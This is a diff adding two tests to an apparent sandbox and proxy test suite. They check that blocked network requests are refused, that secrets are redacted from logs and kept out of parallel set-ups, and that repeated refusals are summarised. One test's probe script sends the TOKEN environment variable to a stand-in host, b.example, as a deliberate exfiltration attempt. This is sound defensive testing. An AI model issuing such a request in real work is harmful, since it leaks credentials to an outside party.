@@ -340,6 +340,46 @@ def test_what_the_proxy_refused_is_told_of_a_set_up_that_succeeds_too(setups: Se
     assert not any(SECRET in line for line in setups.told)
 
 
+def test_a_secret_that_the_proxy_refused_reaches_no_set_up_beside_it(
+    setups: Setups, engine: Engine
+) -> None:
+    (setups.workspace / "probe.py").write_text(
+        "import os, urllib.error, urllib.request\n"
+        "try: urllib.request.urlopen('http://b.example/' + os.environ['TOKEN'])\n"
+        "except urllib.error.HTTPError as error: assert error.code == 403\n"
+    )
+    policy = setups.policy(
+        "python3 probe.py", inputs=("probe.py",), network=("beside.example",), secrets=("TOKEN",)
+    )
+    beside = Setups(engine, setups.image, setups.policy(), setups.workspace)
+    during = beside.on_progress
+
+    def meanwhile(line: str) -> None:
+        during(line)
+        if line == "set-up: begun":
+            setups.make(policy, {"TOKEN": SECRET})
+
+    beside.on_progress = meanwhile
+    try:
+        beside("echo '## begun'; sleep 3", network=("beside.example",))
+    finally:
+        beside.end()
+    assert any("[TOKEN]" in line for line in setups.told)
+    assert not any("b.example" in line for line in beside.told)
+
+
+def test_many_refused_requests_do_not_fill_the_screen(setups: Setups) -> None:
+    (setups.workspace / "probe.py").write_text(
+        "import urllib.error, urllib.request\n"
+        "for n in range(60):\n"
+        "    try: urllib.request.urlopen(f'http://{n}.example/')\n"
+        "    except urllib.error.HTTPError as error: assert error.code == 403\n"
+    )
+    setups("python3 probe.py", inputs=("probe.py",), network=("many.example",))
+    assert sum("GET http://" in line for line in setups.told) == 20
+    assert "set-up:   and 40 more" in setups.told
+
+
 def test_its_way_out_goes_with_it(setups: Setups, engine: Engine) -> None:
     ways: list[str] = []
 
